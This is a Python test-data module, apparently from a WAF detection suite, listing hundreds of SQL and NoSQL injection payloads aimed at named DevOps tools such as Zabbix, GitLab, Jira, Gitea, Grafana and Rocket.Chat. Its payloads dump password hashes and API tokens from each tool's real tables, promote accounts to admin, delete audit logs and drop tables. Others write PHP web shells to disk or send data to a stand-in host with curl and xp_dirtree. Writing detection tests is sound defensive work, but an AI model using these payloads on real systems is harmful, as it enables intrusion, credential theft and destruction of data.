"""Blind set "twohundredtwentythird": SQL and NoSQL injection aimed at the tools software teams run for
themselves, with benign requests in which developers, SREs and release managers type the same words innocently.

The angle: DevOps and developer tooling, recalled from memory. CI/CD servers and their plugins (Jenkins, GitLab CI,
TeamCity, Bamboo, Drone, Rundeck, Ansible AWX), code hosting and review (GitLab, Gitea, Gogs, Bitbucket Server),
artifact registries (Harbor, Artifactory), issue trackers and wikis (Jira, Confluence, Redmine, MediaWiki),
monitoring dashboards (Grafana, Zabbix, Nagios XI), code quality (SonarQube) and ChatOps (Mattermost, Rocket.Chat,
Express/Mongoose bots and webhook receivers). Each payload goes after the database the tool really keeps its users,
tokens and secrets in (MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite, H2, HSQLDB, Derby, MongoDB), names
that tool's own tables and columns (cwd_user, xi_users, harbor_user, auth_user, access_token, sessions), and where a
tool's own form or endpoint is the attack (Zabbix jsrpc.php profileIdx2, the login forms with their own field
names, Rocket.Chat's getPasswordPolicy, Express bracket operators) sends that tool's request shape. A comment above
each group names the family, the tool and the target database.

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path) under the parameter names these tools use (q, filter, search, sort, order_by,
project, branch, jql, groupid, repo, query, id), once the way a WAF regression suite sends it (placements prefixed
"rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi)
under arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. A tool's own login form or endpoint pair (`name=Admin'#&...`,
`profileIdx2=...`, `token[$regex]=...`) goes as a raw `name=value` form body; whole login and webhook documents go
as the JSON body. Payloads with a newline never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of these
tools' schemas and endpoints as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwentythird"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]


def compact(doc: Any) -> str:
    """A JSON document as a client sends it (no spaces)."""
    return json.dumps(doc, separators=(",", ":"))


def jb(doc: Any) -> Entry:
    """A whole JSON document: the request body itself."""
    return (compact(doc), "json-body", "rs-json-body")


def kv(pair: str) -> Entry:
    """A tool's own form fields, `name=value&...`, sent as the form body unquoted."""
    return (pair, "form", "rs-raw-body")


# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that leave the tool's string or number and turn its WHERE clause
LIBINJECTION: list[Entry] = [
    # Gogs / Gitea /api/v1/repos/search?q= and /api/v1/users/search?q=: the keyword sits in LIKE '%...%'
    # (target MySQL for Gogs 0.5-era installs, SQLite for a single-binary Gitea)
    "%' or 1=1-- -",
    "x%') or 1=1#",
    "%' or 'a'='a",
    "infra%' or 1 -- -",
    # Jenkins: a pipeline's string parameter BRANCH spliced into a MySQL query by a database step
    "main' or 'x'='x",
    "release/2.4' or 1=1#",
    "develop' or true -- -",
    # TeamCity on HSQLDB: buildTypeId read by a third-party report plugin
    "Project_Build' or 1=1 --",
    "bt12' or ''='",
    # Zabbix (MySQL): itemid, hostids[] and graphid reach SQL unquoted
    "10084 or 1=1",
    "23296) or (1=1",
    "-1 or 1=1 limit 1",
    "0 or 1 -- -",
    # Nagios XI (MySQL): host_name filter of the legacy reports
    "localhost' or '1'='1",
    "'or''='",
    # Grafana MySQL datasource in ANSI_QUOTES mode: a template variable wrapped in double quotes
    "\" or 1=1 -- -",
    # Redmine (PostgreSQL): a string custom-field filter
    "prod' or 1=1 --",
    "x') or ('1'='1",
    "')) or 1=1 --",
    # Grafana: the $hostname variable interpolated into a MySQL panel query
    "web01' or 1=1 or 'a'='",
    # Harbor (PostgreSQL): repository name filter
    "library/nginx' or 1=1 --",
    "' or 1::int=1 --",
    # Bitbucket Server on SQL Server: a plugin's pull-request branch filter
    "feature/x' or 1=1 --",
    "' or 'a'+'b'='ab' --",
    # MediaWiki on SQLite: an extension taking a page title; SQLite's IS
    "Main_Page' or 1=1 --",
    "' or 1 is 1 --",
    # Drone (SQLite): the repo slug
    "octocat/hello-world' or 1=1 --",
    "1' or 1 --",
]

# sql-tautology/boolean: true/false pairs and boolean oracles over each tool's own user and token tables
TAUTOLOGY: list[Entry] = [
    # Zabbix (MySQL): users.passwd is bcrypt ($2y$) since 5.0; alias became username in 5.4; roleid 3 = Super admin
    "10084 and 1=1",
    "10084 and 1=2",
    "1 and (select substr(passwd,1,4) from users where alias='Admin')='$2y$'",
    "1 and (select count(*) from users where username='Admin' and roleid=3)=1",
    "1 and (select count(*) from sessions where userid=1 and status=0)>0",
    # Nagios XI (MySQL): xi_users and its api_key
    "1 and (select length(api_key) from xi_users where user_id=1)=64",
    "' and (select enabled from xi_users where username='nagiosadmin')=1 -- -",
    # Jira / Confluence (PostgreSQL): cwd_user and the {PKCS5S2} credential prefix
    "' or (select count(*) from cwd_user where user_name='admin')=1 --",
    "' and (select substr(credential,1,9) from cwd_user where user_name='admin')='{PKCS5S2}' --",
    "' and (select active from cwd_user where lower_user_name='sysadmin')=1 --",
    # GitLab (PostgreSQL): users.admin is a boolean, so the column is the oracle
    "' or (select admin from users where id=1) --",
    "' and (select count(*) from personal_access_tokens where revoked=false)>0 --",
    # Gitea (SQLite): the user table, is_admin and the hash algorithm
    "' or (select is_admin from user where lower_name='gitea_admin')=1 --",
    "' and (select passwd_hash_algo from user where id=1)='pbkdf2' --",
    # Grafana (SQLite): the user table and API keys
    "' or (select is_admin from user where login='admin')=1 --",
    "' and (select count(*) from api_key where role='Admin')>0 --",
    # SonarQube (PostgreSQL)
    "' and (select hash_method from users where login='admin')='PBKDF2' --",
    "' or exists(select 1 from user_tokens where user_uuid=(select uuid from users where login='admin')) --",
    # Ansible AWX (PostgreSQL, Django's auth_user)
    "' and (select is_superuser from auth_user where username='admin') --",
    # Drone (SQLite)
    "' or (select user_admin from users where user_id=1)=1 --",
    # Mattermost (PostgreSQL)
    "' or (select count(*) from users where roles='system_user system_admin')>0 --",
    # Redmine (MySQL)
    "1 and (select admin from users where login='admin')=1",
    # MediaWiki (MySQL)
    "1 and (select substring(user_password,1,8) from user where user_id=1)=':pbkdf2:'",
    # Harbor (PostgreSQL)
    "' or (select sysadmin_flag from harbor_user where username='admin') --",
    # the plain pairs a scanner sends first to Rundeck's job search (H2) and Bamboo (SQL Server)
    "' and 'a'='a",
    "' and 'a'='b",
    "' or not 1=2 --",
    "1 or 2>1",
]

# sql-comment-sequence: the comment cuts off the rest of the tool's statement (the project or tenant condition,
# the LIMIT, the closing quote)
COMMENT: list[Entry] = [
    # Zabbix (MySQL): # and "-- " both end the line
    "Admin'#",
    "Admin'-- -",
    "10084 or 1=1#",
    "1) or 1=1 -- -",
    # Nagios XI (MySQL): an open C comment at the very end is accepted
    "nagiosadmin'/*",
    # Harbor (PostgreSQL) project_id: drop the "and deleted = false" that follows
    "1 or true --",
    # GitLab (PostgreSQL): block comments nest, so the comment closes only at the matching */
    "' or 1=1 /* /* */ */ --",
    "' or 1=1 --",
    # Gitea (SQLite): an unterminated /* runs to the end of the statement
    "' or 1=1 /*",
    "admin' /*",
    "1) or (1=1) /*",
    # Jira / Bamboo on SQL Server: close the statement, then comment
    "admin';--",
    "' or 1=1;--",
    # Jira on Oracle: only -- exists
    "') or 1=1 --",
    # Bitbucket / Bamboo on MySQL: "--" needs a following space; in a URL a tester writes --+
    "' or 1=1 --+",
    "main' -- -",
    "1 and 1=1 -- x",
    # TeamCity (HSQLDB)
    "admin' --",
    # Rundeck (H2): // is a line comment too
    "' or 1=1 //",
    # MediaWiki (MySQL): title parameter, # comment (sent as %23 in the URL)
    "Main_Page'#",
    # Grafana: a MySQL panel variable, close the quote and drop the rest
    "web01'#",
    # AWX (PostgreSQL): an inventory host filter passed to a raw query
    "all' --",
    "') --",
    # SonarQube on Oracle: close the parenthesis of the subquery
    "')) --",
    # a closed statement followed by a comment (SQL Server, PostgreSQL, MySQL)
    "1; --",
    "'; #",
    "x' or 'a'='a'; --",
    "1' or '1'='1' /**/ --",
]

# union-select: each tool's credential and token tables read through a UNION, columns matched to the page
UNION: list[Entry] = [
    # Gogs 0.5 (MySQL) /api/v1/users/search?q=: the LIKE context is closed first
    "%') union select id,name,passwd,salt,email from user#",
    # Zabbix (MySQL)
    "-1 union select alias,passwd from users-- -",
    "' union select username,passwd,roleid from users#",
    "0 union all select sessionid,userid from sessions where status=0#",
    # Nagios XI (MySQL)
    "' union select username,password,api_key from nagiosxi.xi_users-- -",
    # Jira / Confluence / Bitbucket Server (PostgreSQL, the embedded Crowd tables)
    "' union select user_name,credential from cwd_user --",
    "' union select null,credential,email_address from cwd_user where directory_id=1 --",
    "-1 union select attribute_name,attribute_value from cwd_user_attribute --",
    # GitLab (PostgreSQL)
    "' union select username,encrypted_password from users --",
    "-1 union select token,null from ci_runners --",
    "' union select id::text,encrypted_otp_secret from users where otp_required_for_login --",
    # Gitea (SQLite): || concatenates
    "' union select name,passwd||':'||salt from user --",
    "' union select name,token_hash from access_token --",
    # Grafana (SQLite)
    "' union select login,password||':'||salt from user --",
    "' union select name,url,secure_json_data from data_source --",
    # Harbor (PostgreSQL)
    "' union select username,password,salt from harbor_user --",
    "-1 union select name,secret from robot --",
    # SonarQube (PostgreSQL)
    "' union select login,crypted_password,salt from users --",
    "' union select name,token_hash from user_tokens --",
    # Ansible AWX (PostgreSQL)
    "' union select username,password from auth_user --",
    "' union select name,inputs::text from main_credential --",
    # Drone (SQLite)
    "' union select user_login,user_token from users --",
    "' union select secret_name,secret_data from secrets --",
    # Mattermost (PostgreSQL)
    "' union select username,password,mfasecret from users --",
    # Rundeck (H2)
    "' union select login,password from rduser --",
    # Redmine (MySQL)
    "0) union select login,hashed_password,salt from users#",
    # MediaWiki (MySQL)
    "0 union select user_name,user_password from user-- -",
    # server banners: Jira on Oracle, Bamboo on SQL Server, GitLab on PostgreSQL, Zabbix on MySQL
    "' union select banner,null from v$version --",
    "' union select @@version,system_user --",
    "-1 union select version(),current_user --",
    "-1 union all select @@version,user(),database()#",
]

# stacked-queries: a second statement after ';' (PostgreSQL's simple query protocol, SQL Server, H2 and HSQLDB take
# them; MySQL only where the driver runs multi-statements)
STACKED: list[Entry] = [
    # GitLab (PostgreSQL): promote an account, lift limits
    "';update users set admin=true where username='mallory';--",
    "1;update users set can_create_group=true,projects_limit=10000;--",
    # Jira (PostgreSQL): reactivate a disabled account
    "';update cwd_user set active=1 where user_name='mallory';--",
    # Zabbix 6 (PostgreSQL): roleid 3 is Super admin; wipe the audit trail
    "1;update users set roleid=3 where username='guest';--",
    "1;delete from auditlog;--",
    # Gitea (SQLite)
    "';update user set is_admin=1 where lower_name='mallory';--",
    # Grafana (SQLite)
    "';update user set is_admin=1 where login='viewer';--",
    "';update org_user set role='Admin' where user_id=2;--",
    # Drone (PostgreSQL)
    "';update users set user_admin=true where user_login='mallory';--",
    # Harbor (PostgreSQL)
    "';update harbor_user set sysadmin_flag=true where username='mallory';--",
    # Ansible AWX (PostgreSQL)
    "';update auth_user set is_superuser=true where username='mallory';--",
    # Mattermost (PostgreSQL)
    "';update users set roles='system_user system_admin' where username='mallory';--",
    # SonarQube (PostgreSQL): join sonar-administrators
    ("';insert into groups_users(user_uuid,group_uuid) select u.uuid,g.uuid from users u,groups g "
     "where u.login='mallory' and g.name='sonar-administrators';--"),
    # Redmine (PostgreSQL)
    "1;update users set admin=true where login='mallory'",
    # MediaWiki (MySQL with multi-statements)
    "1;insert into user_groups (ug_user,ug_group) values (2,'sysop');#",
    # TeamCity (HSQLDB internal database)
    "';create user evil password 'x' admin;--",
    # Rundeck (H2)
    "';drop table execution;--",
    "';shutdown;--",
    # Bamboo / Bitbucket on SQL Server
    "';shutdown with nowait;--",
    "';drop table audit_log;--",
    # Artifactory (PostgreSQL): kill every session of the artifactory database
    "';select pg_terminate_backend(pid) from pg_stat_activity where datname='artifactory';--",
    # PostgreSQL, any tool
    "';alter role current_user with password 'x';--",
    "';create table ci_pwn(t text);--",
    "1;drop schema public cascade;--",
    # MySQL multi-statement (Zabbix, Nagios XI)
    "1';grant all privileges on *.* to 'ci'@'%';-- -",
    "1';set global general_log_file='/usr/share/zabbix/s.php';-- -",
    "1';update xi_users set password=md5('x') where username='nagiosadmin';-- -",
    # TeamCity (HSQLDB): drop the build history
    "'; drop table build_state; --",
]

# time-based-blind: the response time is the oracle
TIME: list[Entry] = [
    # Zabbix jsrpc.php (MySQL): profileIdx2 as the endpoint's own fields
    kv("type=9&method=screen.get&profileIdx=web.item.graph&profileIdx2=(select 1 from (select sleep(5))x)"),
    # Zabbix httpmon.php / latest.php (MySQL)
    "1 and sleep(5)",
    "' and sleep(5)#",
    "(select*from(select(sleep(5)))a)",
    "1' and if(substr((select passwd from users where alias='Admin'),1,1)='$',sleep(5),0)-- -",
    "1 or benchmark(10000000,sha1('x'))#",
    # Nagios XI (MySQL)
    "' and (select 1 from xi_users where user_id=1 and sleep(5))-- -",
    "1 and if(ascii(substr(user(),1,1))>100,sleep(5),0)",
    # Redmine / MediaWiki (MySQL)
    "1 and (select sleep(5) from dual where database() like 'redmine%')",
    "x' xor sleep(5) xor 'y",
    "if(now()=sysdate(),sleep(5),0)",
    "1 and (select benchmark(5000000,md5(now())))",
    "1' and sleep(5) and '1'='1",
    # GitLab / Harbor / AWX (PostgreSQL)
    "';select pg_sleep(5);--",
    "1 and 1=(select 1 from pg_sleep(5))",
    "' || (select '' from pg_sleep(5)) || '",
    "' and 1=(case when (select admin from users where id=1) then (select 1 from pg_sleep(5)) else 1 end) --",
    "' and 1=(select count(*) from generate_series(1,30000000)) --",
    # Bamboo / SonarQube / Bitbucket on SQL Server
    "';waitfor delay '0:0:5';--",
    "1 waitfor delay '00:00:05'",
    "';if (select count(*) from cwd_user where user_name='admin')>0 waitfor delay '0:0:5';--",
    "';if system_user='sa' waitfor delay '0:0:5'--",
    "1);waitfor delay '0:0:5'--",
    # Jira on Oracle
    "' and 1=dbms_pipe.receive_message('x',5) --",
    "' or 1=(select case when user='JIRA' then dbms_pipe.receive_message('a',5) else 1 end from dual) --",
    # Gitea / Grafana / Drone (SQLite): no sleep, a heavy randomblob instead
    "' and 1=like('abcdefg',upper(hex(randomblob(300000000)))) --",
    "1 and (select count(*) from user a,user b,user c,user d,user e)>0",
    # Grafana MySQL datasource variable
    "web01' and sleep(10) and 'a'='a",
]

# error-based: the database's error message carries the data
ERROR: list[Entry] = [
    # Zabbix jsrpc.php profileIdx2 (MySQL), as the endpoint's own fields: the admin's session id in the error
    kv("type=9&method=screen.get&profileIdx=web.item.graph"
       "&profileIdx2=updatexml(0,concat(0xa,(select sessionid from sessions where userid=1 limit 1)),0)"),
    kv("type=9&method=screen.get&profileIdx=web.item.graph&profileIdx2=(select 1 from (select count(*),"
       "concat((select passwd from users limit 1),floor(rand(0)*2))x from information_schema.tables group by x)a)"),
    # Zabbix latest.php toggle_ids[] / httpmon.php applications (MySQL)
    "1 and extractvalue(1,concat(0x5c,(select passwd from users limit 1)))",
    "' and updatexml(1,concat(0x7e,version(),0x7e),1)#",
    "1 and exp(~(select*from(select user())x))",
    "' and gtid_subset(concat(0x7e,(select @@hostname)),1)-- -",
    ("1 and (select 1 from(select count(*),concat(database(),0x3a,floor(rand(0)*2))x "
     "from information_schema.tables group by x)y)"),
    "' and polygon((select*from(select*from(select user())a)b))#",
    # Nagios XI (MySQL)
    "1 and extractvalue(rand(),concat(0x3a,(select api_key from xi_users limit 1)))",
    # Redmine (MySQL)
    "' and updatexml(null,concat(0x0a,(select hashed_password from users where admin=1 limit 1)),null)#",
    "' and geometrycollection((select * from (select * from (select @@version)a)b))#",
    # GitLab / Jira / Harbor (PostgreSQL): a failed cast prints the value
    "' and 1=cast((select credential from cwd_user limit 1) as int) --",
    "' and 1=cast(version() as int) --",
    "' and 1=(select encrypted_password from users limit 1)::int --",
    "1 and cast(current_user as integer)=1",
    "' and 1=cast((select string_agg(username,',') from harbor_user) as numeric) --",
    "' and 1=(select token from ci_runners limit 1)::int --",
    # Bamboo / SonarQube / TeamCity on SQL Server: a failed conversion prints the value
    "' and 1=convert(int,(select top 1 password from users)) --",
    "' and 1=convert(int,@@version) --",
    "1 and 1=db_name()",
    "' and 1=(select top 1 name from sys.sql_logins) --",
    "' and 1=cast(system_user as int) --",
    # Jira / Bamboo on Oracle
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual)) --",
    "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1)) --",
    "' and 1=(select upper(xmltype(chr(60)||chr(58)||user||chr(62))) from dual) --",
    "' and 1=dbms_utility.sqlid_to_sqlhash((select user_name from cwd_user where rownum=1)) --",
    # Rundeck (H2), TeamCity (HSQLDB)
    "' and 1=cast(user() as int) --",
    "' and 1=cast(database_version() as integer) --",
]

# out-of-band: read and write files, or send the data to another host
OOB: list[Entry] = [
    # Zabbix / Nagios XI (MySQL): read the server config, drop a PHP shell into the frontend's web root
    "' union select load_file('/etc/zabbix/zabbix_server.conf')-- -",
    "' union select load_file('/usr/local/nagiosxi/html/config.inc.php'),2#",
    "1 union select '<?php system($_GET[c]);?>',2 into outfile '/usr/share/zabbix/s.php'-- -",
    "' into outfile '/var/www/mediawiki/images/x.php' lines terminated by '<?php passthru($_GET[0]);?>'#",
    "' union select group_concat(alias,0x3a,passwd),2 from users into outfile '/tmp/z.txt'#",
    # MySQL on a Windows Bamboo host: load_file of a UNC path resolves the data in DNS
    "' union select load_file(concat('\\\\\\\\',(select passwd from users limit 1),'.oast.example\\\\a'))-- -",
    "' union select 1 into outfile '\\\\\\\\oast.example\\\\s\\\\z.txt'#",
    # Bamboo / SonarQube / Bitbucket on SQL Server: SMB to a listener
    "';exec master..xp_dirtree '\\\\oast.example\\bamboo';--",
    ("';declare @h varchar(99);set @h='\\\\'+(select top 1 name from sys.sql_logins)+'.oast.example\\s';"
     "exec master.dbo.xp_dirtree @h;--"),
    "';exec master..xp_fileexist '\\\\oast.example\\sonar\\x';--",
    "';exec master..xp_subdirs '\\\\oast.example\\tc';--",
    "';select * from openrowset('SQLOLEDB','server=oast.example;uid=sa;pwd=x','select 1');--",
    "';backup database bitbucket to disk='\\\\oast.example\\b\\bb.bak';--",
    # Jira / Bamboo on Oracle
    "' and 1=utl_http.request('http://oast.example/'||(select user_name from cwd_user where rownum=1)) --",
    ("' union select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
     "\"http://oast.example/j\">%x;]>'),'/l'),null from dual --"),
    "' and httpuritype('http://oast.example/'||user).getclob() is not null --",
    "' and 1=utl_inaddr.get_host_address((select user from dual)||'.oast.example') --",
    "' and dbms_ldap.init((select user from dual)||'.oast.example',389) is not null --",
    # GitLab / Harbor / AWX (PostgreSQL)
    "';select dblink_connect('host=oast.example user='||(select username from harbor_user limit 1)||' dbname=x');--",
    "';copy (select encrypted_password from users) to program 'curl -d @- http://oast.example/g';--",
    "';select lo_import('/etc/gitlab/gitlab-secrets.json');--",
    "' union select pg_read_file('/var/opt/gitlab/gitlab-rails/etc/database.yml'),null --",
    "';copy (select token from ci_runners) to '/tmp/runners.csv';--",
    # MediaWiki on SQLite: ATTACH writes a PHP page into the images directory
    ("';attach database '/var/www/mediawiki/images/x.php' as p;create table p.t(c text);"
     "insert into p.t values('<?php system($_GET[0]);?>');--"),
    # Rundeck (H2): FILE_READ and CSVWRITE
    "' union select file_read('/etc/rundeck/framework.properties'),null --",
    "';call csvwrite('/tmp/users.csv','select * from rduser');--",
    # Artifactory on Derby: export a table to a file
    "';call syscs_util.syscs_export_table('ACCESS','USERS','/tmp/u.del',null,null,null);--",
]

# information-schema/catalog probing: find the tool's tables, columns and privileges
CATALOG: list[Entry] = [
    # Zabbix / Nagios XI / Redmine / MediaWiki (MySQL)
    "' union select table_name,null from information_schema.tables where table_schema='zabbix'-- -",
    "' union select column_name,data_type from information_schema.columns where table_name='xi_users'#",
    "1 and (select count(*) from information_schema.tables where table_schema=database())>150",
    "' union select group_concat(schema_name),2 from information_schema.schemata#",
    "' union select user,authentication_string from mysql.user#",
    "' union select grantee,privilege_type from information_schema.user_privileges#",
    "1 and (select count(*) from mysql.user)>0",
    # GitLab / Jira / Harbor / AWX / SonarQube (PostgreSQL)
    "' union select tablename,null from pg_tables where schemaname='public' --",
    "' union select usename,passwd from pg_shadow --",
    "' union select datname,null from pg_database --",
    "' union select table_name,column_name from information_schema.columns where table_name='cwd_user' --",
    "1 and exists(select 1 from pg_roles where rolname=current_user and rolsuper)",
    "' union select relname,null from pg_class where relkind='r' and relname like 'ci_%' --",
    "' union select proname,prosrc from pg_proc where pronamespace='public'::regnamespace --",
    # Bamboo / Bitbucket / SonarQube (SQL Server)
    "' union select name,null from sys.databases --",
    "' union select name,null from sysobjects where xtype='U' --",
    "' union select name,password_hash from sys.sql_logins --",
    "' union select table_name,null from bitbucket.information_schema.tables --",
    "1 and (select count(*) from master..sysdatabases)>4",
    # Jira / Bamboo (Oracle)
    "' union select table_name,owner from all_tables --",
    "' union select column_name,null from all_tab_columns where table_name='CWD_USER' --",
    "' union select username,null from all_users --",
    # Gitea / Grafana / Drone (SQLite)
    "' union select name,sql from sqlite_master where type='table' --",
    "' union select group_concat(tbl_name),1 from sqlite_master --",
    "' and (select count(*) from sqlite_schema where name='access_token')=1 --",
    # Rundeck (H2), TeamCity (HSQLDB), Artifactory (Derby)
    "' union select table_name,null from information_schema.tables where table_schema='PUBLIC' --",
    "' union select table_name,null from information_schema.system_tables --",
    "' union select tablename,null from sys.systables --",
]

# mysql-comment-obfuscation: versioned /*! */ comments (and MariaDB's /*M! */), inline and line comments between
# keywords; target MySQL/MariaDB behind Zabbix, Nagios XI, Redmine, MediaWiki, Gogs and Jira-on-MySQL
MYCOMMENT: list[Entry] = [
    "1/*!50000union*//*!50000select*/alias,passwd/*!from*/users-- -",
    "'/*!or*/1=1#",
    "1 /*!12345union*/ /*!12345select*/ username,api_key from xi_users#",
    "'/**/union/**/select/**/username,password/**/from/**/xi_users#",
    "' union#ci\nselect login,hashed_password from users#",
    "' union-- x\nselect user_name,user_password from user#",
    "'/*!50000union*/(select/**/user_name,credential/**/from/**/cwd_user)#",
    "'/*M!100100union*/select user(),2#",
    "1/*!or*/1#",
    "'/*!order*//*!by*/3#",
    "'/*!50000and*/sleep(5)#",
    "1/*!00000and*/1=2",
    "' /*!50001or*/ 'a'='a",
    "0 union/*ci*/select/*ci*/1,@@version#",
    "1 /*!union all select*/ user(),database()#",
    "1 and/*!(select*/1 from dual)=1",
    "'/*!12345union*//*!12345all*//*!12345select*/lower_name,passwd,salt/**/from/**/user#",
    "'/*!*/or/*!*/1=1-- -",
    "1/*!50000procedure*/analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "'and/*!sleep(5)*/#",
    "'union/*!select*/distinctrow alias,passwd from users#",
    "' /*!30000union select*/ name,passwd from user#",
    "1/**//*!50000UnIoN*//**//*!50000SeLeCt*//**/sessionid,2/**/from/**/sessions#",
    "'and/*!50000extractvalue*/(1,concat(0x7e,user()))#",
    "'||/*!50000benchmark*/(9999999,md5(1))#",
    "' or/*!50000 1*/=1#",
    "id,/*!(select 1 from (select sleep(5))a)*/",
    "1'/*!union*/select/*!*/group_concat(user_name)/**/from/**/user#",
]

# function-based-probing: substring/ascii/char/concat read a value one character at a time
FUNCTION: list[Entry] = [
    # Zabbix (MySQL)
    "1 and ascii(substring((select passwd from users where alias='Admin'),1,1))>36",
    "' and mid(user(),1,1)='z'#",
    "1 and ord(mid(database(),1,1))=122",
    "' and left(version(),1)='8'#",
    "' and concat_ws(0x3a,user(),database()) like 'zabbix%'#",
    "' and locate('root',user())=1#",
    "' and right(@@version,3)='log'#",
    "1 and length(database())=6",
    "1 and bit_length(user())>0",
    # Nagios XI (MySQL)
    "1 and ascii(substr((select api_key from xi_users limit 1),1,1))>96",
    # Jira / Confluence (PostgreSQL)
    "' and substr((select credential from cwd_user where user_name='admin'),1,1)='{' --",
    "' and char_length(current_user)>3 --",
    # GitLab (PostgreSQL)
    "' and ascii(substr((select token from ci_runners limit 1),1,1))>100 --",
    "' and strpos(version(),'PostgreSQL')>0 --",
    "' and concat(current_database(),'')='gitlabhq_production' --",
    "1 and position('git' in current_user)>0",
    "' and (select string_agg(username,',') from users) like '%root%' --",
    # Grafana / Gitea (SQLite)
    "' and unicode(substr((select password from user limit 1),1,1))>48 --",
    "' and instr((select passwd from user where id=1),'a')>0 --",
    "' and length((select salt from user where login='admin'))=10 --",
    # Bamboo / SonarQube (SQL Server)
    "' and ascii(substring((select top 1 name from sys.sql_logins),1,1))=115 --",
    "' and len(system_user)>2 --",
    "' and char(115)+char(97)=system_user --",
    "' and charindex('Microsoft',@@version)=1 --",
    # Jira (Oracle)
    "' and ascii(substr(user,1,1))=74 --",
    "' and instr((select banner from v$version where rownum=1),'Oracle')>0 --",
    # Rundeck (H2)
    "' and substring((select password from rduser limit 1),1,4)='MD5:' --",
    "' and left(database(),3)='RUN' --",
]

# sql-authentication-bypass: each tool's own login form and login document, with its own field names
AUTH: list[Entry] = [
    # Zabbix frontend index.php (MySQL)
    kv("name=Admin'#&password=x&autologin=1&enter=Sign in"),
    # Nagios XI login.php (MySQL)
    kv("username=nagiosadmin' or 1=1-- -&password=x&loginButton="),
    # Jenkins j_security_check with a JDBC-backed security realm plugin (MySQL)
    kv("j_username=admin'-- -&j_password=x&from=/&Submit=Sign in"),
    # Rundeck j_security_check, JAAS JDBCLoginModule (H2 / MySQL)
    kv("j_username=admin' or '1'='1&j_password=x"),
    # Jira / Confluence login with a custom JDBC authenticator (PostgreSQL)
    kv("os_username=admin' --&os_password=x&login=Log in"),
    kv("os_username=' or 1=1 --&os_password=&os_destination=/secure/Dashboard.jspa"),
    # Bitbucket Server (SQL Server)
    kv("j_username=admin')--&j_password=x&_atl_remember_me=on"),
    # Redmine /login (MySQL)
    kv("username=admin')#&password=x&login=Login"),
    # Ansible AWX /api/login/ (PostgreSQL, a plugin's raw lookup)
    kv("username=admin' or 'a'='a' --&password=x&next=/api/"),
    # SonarQube /api/authentication/login (PostgreSQL)
    kv("login=admin' --&password=x"),
    # Harbor /c/login (PostgreSQL)
    kv("principal=admin'--&password=x"),
    # MediaWiki Special:UserLogin (MySQL)
    kv("wpName=WikiSysop'#&wpPassword=x&wploginattempt=Log in"),
    # TeamCity /loginSubmit.html (HSQLDB)
    kv("username=admin' or 1=1 --&password=x&remember=true"),
    # Gitea / Gogs /user/login (SQLite)
    kv("user_name=gitea_admin' --&password=x&remember=on"),
    kv("user_name=' or 1=1 --&password=x"),
    # Grafana /login (SQLite)
    jb({"user": "admin' --", "password": "x"}),
    jb({"user": "' or 1=1 limit 1 --", "password": "x"}),
    # Mattermost /api/v4/users/login (PostgreSQL)
    jb({"login_id": "sysadmin' or '1'='1", "password": "x"}),
    # Artifactory UI login (Derby)
    jb({"user": "admin' or 1=1 --", "password": "x", "type": "login"}),
    # the username field alone, as a scanner fills any login form (MySQL, PostgreSQL, SQLite)
    "admin' or '1'='1' #",
    "admin') or ('1'='1",
    "' or 1=1 limit 1 -- -",
    "admin'||'",
    "' or 1=1 and username='admin' --",
    # Zabbix before 5.0 kept md5 hashes: a UNION hands the login check a row with a known password
    "' union select 1,'Admin','5f4dcc3b5aa765d61d8327deb882cf99' -- -",
    # Redmine on PostgreSQL: the login column and a chosen hash pair
    "' union select 1,'admin','d033e22ae348aeb5660fc2140aec35850c4da997','' --",
    "nagiosadmin' or 'x'='x",
    "sysadmin' or 1 -- -",
]

# nosql-injection: Mongo operators and $where in ChatOps and webhook tools
NOSQL: list[Entry] = [
    # Rocket.Chat (MongoDB, Meteor), CVE-2021-22911: getPasswordPolicy looks a reset token up by the client's query
    jb({"message": compact({"msg": "method", "method": "getPasswordPolicy",
                            "params": [{"token": {"$regex": "^a"}}], "id": "1"})}),
    # Rocket.Chat users.list?query= took a Mongo selector: the admin hash read with a $where oracle
    compact({"$where": "this.username==='admin'&&this.services.password.bcrypt.match(/^\\$2b\\$10\\$a/)"}),
    # ChatOps bots and webhook receivers on Express + Mongoose: qs turns brackets into operators
    kv("username[$ne]=x&password[$ne]=x"),
    kv("token[$regex]=^xox"),
    kv("api_key[$gt]="),
    kv("login[$in][]=admin&login[$in][]=root&password[$exists]=true"),
    kv("secret[$ne]=&repo=ops/deploy"),
    kv("email[$regex]=.*&password[$regex]=.*"),
    kv("user[$nin][]=guest&pass[$ne]=1"),
    # JSON bodies: a bot dashboard's login, a webhook secret check, a kanban board's lookup
    jb({"username": "admin", "password": {"$ne": None}}),
    jb({"email": {"$gt": ""}, "password": {"$gt": ""}}),
    jb({"username": {"$regex": "^adm"}, "password": {"$exists": True}}),
    jb({"username": "admin", "password": {"$in": ["admin", "changeme", "password", ""]}}),
    jb({"repository.full_name": {"$regex": ".*"}, "secret": {"$ne": ""}}),
